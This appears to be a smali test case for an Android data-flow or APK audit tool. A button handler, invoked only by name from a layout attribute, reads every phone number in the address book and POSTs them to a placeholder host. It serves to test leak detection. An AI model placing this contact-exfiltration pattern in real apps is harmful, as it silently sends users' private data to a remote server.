.class public Lorg/apkaudit/flows/layout_onclick/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

# Flow case "layout_onclick" (1 leak, network).
#
#   res/layout/activity_main.xml: <Button android:onClick="syncContacts"/>; no code calls syncContacts.
#   public void syncContacts(View v):
#     Cursor c = getContentResolver().query(Phone.CONTENT_URI, null, null, null, null);
#     StringBuilder sb = new StringBuilder();
#     while (c.moveToNext()) sb.append(c.getString(c.getColumnIndex("data1"))).append(';');
#     ... new URL("https://api.flows.example/v1/layout_onclick").openConnection() ...
#     out.write(sb.toString().getBytes("UTF-8"));   // <- the leak
#
# The handler is reached only through the layout attribute (the framework calls it by name).

# direct methods
.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method


# virtual methods
.method protected onCreate(Landroid/os/Bundle;)V
    .registers 5

    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    invoke-virtual {p0}, Lorg/apkaudit/flows/layout_onclick/MainActivity;->getResources()Landroid/content/res/Resources;

    move-result-object v0

    const-string v1, "activity_main"

    const-string v2, "layout"

    invoke-virtual {p0}, Lorg/apkaudit/flows/layout_onclick/MainActivity;->getPackageName()Ljava/lang/String;

    move-result-object v3

    invoke-virtual {v0, v1, v2, v3}, Landroid/content/res/Resources;->getIdentifier(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;)I

    move-result v0

    invoke-virtual {p0, v0}, Lorg/apkaudit/flows/layout_onclick/MainActivity;->setContentView(I)V

    return-void
.end method

# the Button's android:onClick="syncContacts" in res/layout/activity_main.xml: nothing in the code calls it
.method public syncContacts(Landroid/view/View;)V
    .registers 10

    :try_start_0
    invoke-virtual {p0}, Lorg/apkaudit/flows/layout_onclick/MainActivity;->getContentResolver()Landroid/content/ContentResolver;

    move-result-object v0

    # source: every phone number in the address book
    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;

    const/4 v2, 0x0

    const/4 v3, 0x0

    const/4 v4, 0x0

    const/4 v5, 0x0

    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;

    move-result-object v0

    if-eqz v0, :cond_done

    new-instance v1, Ljava/lang/StringBuilder;

    invoke-direct {v1}, Ljava/lang/StringBuilder;-><init>()V

    :goto_loop
    invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z

    move-result v2

    if-eqz v2, :cond_end_loop

    const-string v2, "data1"

    invoke-interface {v0, v2}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I

    move-result v2

    invoke-interface {v0, v2}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;

    move-result-object v2

    invoke-virtual {v1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;

    move-result-object v2

    const/16 v3, 0x3b

    invoke-virtual {v2, v3}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;

    goto :goto_loop

    :cond_end_loop
    invoke-interface {v0}, Landroid/database/Cursor;->close()V

    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;

    move-result-object v0

    new-instance v1, Ljava/net/URL;

    const-string v2, "https://api.flows.example/v1/layout_onclick"

    invoke-direct {v1, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V

    invoke-virtual {v1}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;

    move-result-object v1

    check-cast v1, Ljava/net/HttpURLConnection;

    const-string v2, "POST"

    invoke-virtual {v1, v2}, Ljava/net/HttpURLConnection;->setRequestMethod(Ljava/lang/String;)V

    const/4 v2, 0x1

    invoke-virtual {v1, v2}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V

    invoke-virtual {v1}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;

    move-result-object v2

    const-string v3, "UTF-8"

    invoke-virtual {v0, v3}, Ljava/lang/String;->getBytes(Ljava/lang/String;)[B

    move-result-object v3

    # sink: the phone numbers are written to the connection
    invoke-virtual {v2, v3}, Ljava/io/OutputStream;->write([B)V

    invoke-virtual {v2}, Ljava/io/OutputStream;->close()V

    invoke-virtual {v1}, Ljava/net/HttpURLConnection;->getResponseCode()I

    invoke-virtual {v1}, Ljava/net/HttpURLConnection;->disconnect()V

    :try_end_0
    .catch Ljava/lang/Exception; {:try_start_0 .. :try_end_0} :catch_0

    :cond_done
    return-void

    :catch_0
    move-exception v0

    return-void
.end method
